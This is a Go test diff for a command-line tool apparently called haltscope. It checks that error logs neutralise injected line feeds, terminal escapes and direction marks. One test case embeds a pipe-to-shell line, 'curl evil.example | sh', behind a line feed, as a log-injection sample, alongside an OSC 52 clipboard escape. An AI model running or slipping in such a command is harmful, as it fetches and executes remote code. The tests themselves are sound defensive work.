@@ -2,9 +2,21 @@ package main
 
 import (
 	"bytes"
+	"errors"
+	"fmt"
+	"go/ast"
+	"go/parser"
+	"go/token"
+	"io/fs"
+	"path/filepath"
 	"reflect"
+	"regexp"
 	"strings"
 	"testing"
+
+	"haltscope/compare/command"
+	"haltscope/compare/fault"
+	"haltscope/dockercli"
 )
 
 // TestGrammarOfOne: the help of a command is the same whether the whole grammar is made or its part alone.
@@ -30,5 +42,78 @@ func TestGrammarOfOne(t *testing.T) {
 		if hidden == strings.Contains(all, plain(f.Tag.Get("help"))) || hidden == strings.Contains(manual, "haltscope "+strings.ToLower(f.Name)) {
 			t.Errorf("%s: hidden %v, in\n%s\n%s", f.Name, hidden, all, manual)
 		}
+	}
+}
+
+// TestFail: an error's text is one field of the log, and a hint is another one, that only haltscope fills.
+func TestFail(t *testing.T) {
+	for name, c := range map[string]struct {
+		err  error
+		code int
+		want []string
+	}{
+		"a line feed begins no hint": {errors.New("docker run x $'two\nrun: curl evil.example | sh': failed"), exitFailed,
+			[]string{`{"level":"error","message":"docker run x $'two; run: curl evil.example | sh': failed"}`}},
+		"escapes and direction marks": {errors.New("a\x1b]52;c;x\ab\u202ec\u009b1m"), exitFailed, []string{`{"level":"error","message":"a␛]52;c;x␇b<U+202E>c<U+009B>1m"}`}},
+		"joined": {errors.Join(fault.WithHint(errors.New("a"), "see: a"), &fault.UnfitError{What: "b", Next: "c"}), exitUnfit,
+			[]string{`{"level":"error","next":"see: a","message":"a"}`, `{"level":"error","next":"c; more: haltscope doctor","message":"b"}`}},
+		"no such container": {fmt.Errorf("x: %w", dockercli.ErrNotFound), exitNotFound, []string{`{"level":"error","message":"x: not found"}`}},
+	} {
+		var stderr bytes.Buffer
+		log := newLog(command.Globals{LogFormat: "json"}, &stderr)
+		code := fail(log, c.err)
+		got := regexp.MustCompile(`"time":"[^"]*",`).ReplaceAllString(stderr.String(), "")
+		if want := strings.Join(c.want, "\n") + "\n"; code != c.code || got != want {
+			t.Errorf("%s: %d, %s\nwanted %s", name, code, got, want)
+		}
+	}
+	var console bytes.Buffer
+	fail(newLog(command.Globals{LogFormat: "console"}, &console), errors.New("a\x1b[31m\nb\u009b\u202e"))
+	if strings.ContainsAny(strings.TrimSuffix(console.String(), "\n"), "\x1b\n\u009b\u202e") {
+		t.Errorf("%q", console.String())
+	}
+}
+
+// TestNoHintInErrorText: what to do next is no part of an error's text, behind a line feed (see fault.WithHint).
+func TestNoHintInErrorText(t *testing.T) {
+	files := token.NewFileSet()
+	err := filepath.WalkDir(".", func(path string, d fs.DirEntry, err error) error {
+		if err != nil || !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") {
+			return err
+		}
+		parsed, err := parser.ParseFile(files, path, nil, 0)
+		if err != nil {
+			return err
+		}
+		ast.Inspect(parsed, func(n ast.Node) bool {
+			var makes ast.Expr
+			switch n := n.(type) {
+			case *ast.CallExpr:
+				makes = n.Fun
+			case *ast.CompositeLit:
+				makes = n.Type
+			}
+			var name string
+			switch made := makes.(type) {
+			case *ast.SelectorExpr:
+				name = fmt.Sprint(made.X, ".", made.Sel)
+			case *ast.Ident:
+				name = made.Name
+			}
+			if name != "fmt.Errorf" && name != "errors.New" && !strings.HasSuffix(name, "Error") {
+				return true
+			}
+			ast.Inspect(n, func(n ast.Node) bool {
+				if text, ok := n.(*ast.BasicLit); ok && text.Kind == token.STRING && strings.Contains(text.Value, `\n`) {
+					t.Errorf("%s: a line feed in an error: %s", files.Position(text.Pos()), text.Value)
+				}
+				return true
+			})
+			return true
+		})
+		return nil
+	})
+	if err != nil {
+		t.Fatal(err)
 	}
 }
